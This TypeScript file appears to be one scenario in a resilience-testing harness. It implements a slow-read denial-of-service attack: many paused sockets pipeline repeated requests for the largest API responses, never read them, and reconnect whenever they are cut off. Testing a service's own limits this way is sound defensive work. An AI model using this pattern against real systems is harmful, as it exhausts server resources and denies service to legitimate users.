// @ts-nocheck
import { attack, dial, requestText, sleep } from './wire.ts';

/** Callers who ask for the largest answers there are, many at once, and never read. Each comes again when it is cut off. */

const open = new Set();
let dialled = 0;
let over = false;

async function begin({ port, from, sockets, group }) {
  const request = requestText('GET', `/v1/groups/${group}/rounds?limit=1000`).repeat(64);
  for (let i = 0; i < sockets; i += 1) caller(port, from[i % from.length], request);
  for (let waited = 0; open.size < sockets * 0.95 && waited < 10_000; waited += 50) await sleep(50);
}

function caller(port, from, request) {
  const socket = dial(port, from).pause();
  dialled += 1;
  socket.on('connect', () => {
    open.add(socket);
    socket.write(request);
  });
  // Who does not read does not hear of the end either.
  setTimeout(() => socket.destroy(), 3000);
  socket.on('close', () => {
    open.delete(socket);
    if (!over) setTimeout(() => caller(port, from, request), 100 + Math.random() * 400);
  });
}

await attack({
  begin,
  end() {
    over = true;
    return { dialled, open: open.size, byStatus: {}, faults: [] };
  },
});
